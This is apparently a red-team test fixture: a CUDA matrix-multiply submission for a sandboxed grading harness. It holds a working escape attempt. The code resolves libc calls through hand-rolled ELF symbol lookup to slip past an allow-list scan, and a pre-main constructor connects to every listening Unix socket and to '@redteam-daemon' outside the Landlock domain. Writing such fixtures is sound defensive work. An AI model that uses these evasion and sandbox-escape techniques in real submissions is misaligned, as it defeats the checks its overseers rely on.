// Known-bad submission (red team, sockets: abstract AF_UNIX): connects, from .init, to every listening abstract AF_UNIX socket (from its own /proc/self/net/unix) and to @redteam-daemon: outside the worker's Landlock domain (ABI 6 scoping).
// Its kernel is right only when the escape worked (scale 1): "wrong" is the proof it was stopped.
// The kit's self-test asserts what the grader makes of it in ../expect.toml.
#include <cuda_runtime.h>
#include <elf.h>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <cstddef>
#include <sys/socket.h>
#include <sys/un.h>

#define BLOCK_WIDTH 16

// Correct only when `scale` is 1: the product counts only if the escape worked.
__global__ void MatrixMulKernel(const float* M, const float* N, float* P, int Width, float scale) {
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k) Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue * scale;
    }
}

static bool same(const char* a, const char* b) {
    while (*a && *a == *b) ++a, ++b;
    return *a == *b;
}

// libc's definition of `name`, found in its dynamic symbol table from printf's address: no name
// the allow-list refuses appears in the object.
static void* libc_function(const char* name) {
    int (*volatile anchor)(const char*, ...) = printf;
    uintptr_t base = reinterpret_cast<uintptr_t>(anchor) & ~uintptr_t(4095);
    while (*reinterpret_cast<const uint32_t*>(base) != 0x464c457f) base -= 4096;  // "\x7fELF"
    const auto* eh = reinterpret_cast<const Elf64_Ehdr*>(base);
    const auto* ph = reinterpret_cast<const Elf64_Phdr*>(base + eh->e_phoff);
    const Elf64_Dyn* dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; ++i)
        if (ph[i].p_type == PT_DYNAMIC) dyn = reinterpret_cast<const Elf64_Dyn*>(base + ph[i].p_vaddr);
    uintptr_t symtab = 0, strtab = 0;
    for (; dyn && dyn->d_tag != DT_NULL; ++dyn) {
        if (dyn->d_tag == DT_SYMTAB) symtab = dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_STRTAB) strtab = dyn->d_un.d_ptr;
    }
    if (symtab < base) symtab += base;
    if (strtab < base) strtab += base;
    for (auto* s = reinterpret_cast<const Elf64_Sym*>(symtab); reinterpret_cast<uintptr_t>(s) < strtab; ++s)
        if (s->st_value && same(reinterpret_cast<const char*>(strtab + s->st_name), name))
            return reinterpret_cast<void*>(base + s->st_value);
    return nullptr;
}

template <class F> static F fn(const char* name) { return reinterpret_cast<F>(libc_function(name)); }
using OpenF = int (*)(const char*, int, ...);
using OpenatF = int (*)(int, const char*, int, ...);
using ReadF = long (*)(int, void*, unsigned long);
using PreadF = long (*)(int, void*, unsigned long, long);
using WriteF = long (*)(int, const void*, unsigned long);
using CloseF = int (*)(int);

static bool has(const char* buf, long n, const char* marker) {
    long m = (long)strlen(marker);
    for (long i = 0; i + m <= n; ++i)
        if (memcmp(buf + i, marker, m) == 0) return true;
    return false;
}

// Reads up to `cap` bytes of an open descriptor; true when `marker` is among them.
static bool fd_has(int fd, const char* marker, long cap = 1 << 16) {
    if (fd < 0) return false;
    static char buf[1 << 16];
    long total = 0, n;
    while (total < cap && (n = fn<ReadF>("read")(fd, buf + total, cap - total)) > 0) total += n;
    fn<CloseF>("close")(fd);
    return has(buf, total, marker);
}

static volatile bool g_escaped = false;

using SocketF = int (*)(int, int, int);
using ConnectF = int (*)(int, const void*, unsigned);

static bool try_connect(const char* name, bool abstract) {
    struct sockaddr_un a{};
    a.sun_family = AF_UNIX;
    size_t n = strlen(name);
    if (n + 2 > sizeof a.sun_path) return false;
    memcpy(a.sun_path + (abstract ? 1 : 0), name, n);
    int s = fn<SocketF>("socket")(AF_UNIX, SOCK_STREAM, 0);
    int r = s >= 0 ? fn<ConnectF>("connect")(s, &a, (unsigned)(offsetof(sockaddr_un, sun_path) + n + (abstract ? 1 : 0))) : -2;
    if (s >= 0) fn<CloseF>("close")(s);
    fprintf(stderr, "redteam unix: connect %s%s -> socket %d, connect %d\n", abstract ? "@" : "", name, s, r);
    return r == 0;
}

// Every listening AF_UNIX socket of the machine's network namespace, from the worker's own /proc entry.
static void each_listening(bool abstract) {
    int fd = fn<OpenF>("open")("/proc/self/net/unix", O_RDONLY);
    static char buf[1 << 18];
    long total = 0, n;
    while (fd >= 0 && total < (long)sizeof buf - 1 && (n = fn<ReadF>("read")(fd, buf + total, sizeof buf - 1 - total)) > 0) total += n;
    buf[total > 0 ? total : 0] = 0;
    fprintf(stderr, "redteam unix: /proc/self/net/unix -> %d (%ld bytes)\n", fd, total);
    for (char* line = buf; line && *line;) {
        char* next = strchr(line, '\n');
        if (next) *next++ = 0;
        char* path = strrchr(line, ' ');
        unsigned long flags = 0;
        const char* f = line;   // the fourth field, in hex: 00010000 = listening
        for (int field = 0; field < 3 && f; ++field) { f = strchr(f, ' '); if (f) while (*f == ' ') ++f; }
        for (; f && *f && *f != ' '; ++f) flags = flags * 16 + (unsigned long)(*f <= '9' ? *f - '0' : (*f | 32) - 'a' + 10);
        if (path && (flags & 0x10000)) {
            ++path;
            if (!abstract && path[0] == '/' && try_connect(path, false)) g_escaped = true;
            if (abstract && path[0] == '@' && try_connect(path + 1, true)) g_escaped = true;
        }
        line = next;
    }
}

extern "C" __attribute__((used)) void tl_before_main() {
    each_listening(true);
    if (try_connect("redteam-daemon", true)) g_escaped = true;
}

#ifndef __CUDA_ARCH__
// ".init" in this file: the first of its constructors (priority 101, before the runtime's): .init
// code needs file-scope asm, which the allow-list scan refuses (docs/integrity.md, "Nothing the
// instrumentation cannot see"). What this case proves is its payload's confinement, not the section.
__attribute__((constructor(101))) static void tl_first_constructor() { tl_before_main(); }
#endif

void launch_matmul(const float* M, const float* N, float* P, int Width) {
    dim3 dimBlock(BLOCK_WIDTH, BLOCK_WIDTH);
    dim3 dimGrid((Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH, (Width + BLOCK_WIDTH - 1) / BLOCK_WIDTH);
    MatrixMulKernel<<<dimGrid, dimBlock>>>(M, N, P, Width, g_escaped ? 1.0f : 0.5f);
}

void matmul_host(const float* M_h, const float* N_h, float* P_h, int Width) {
    size_t size = (size_t)Width * Width * sizeof(float);
    float *M_d = nullptr, *N_d = nullptr, *P_d = nullptr;
    cudaMalloc((void**)&M_d, size);
    cudaMalloc((void**)&N_d, size);
    cudaMalloc((void**)&P_d, size);
    cudaMemcpy(M_d, M_h, size, cudaMemcpyHostToDevice);
    cudaMemcpy(N_d, N_h, size, cudaMemcpyHostToDevice);
    launch_matmul(M_d, N_d, P_d, Width);
    cudaMemcpy(P_h, P_d, size, cudaMemcpyDeviceToHost);
    cudaFree(M_d);
    cudaFree(N_d);
    cudaFree(P_d);
}
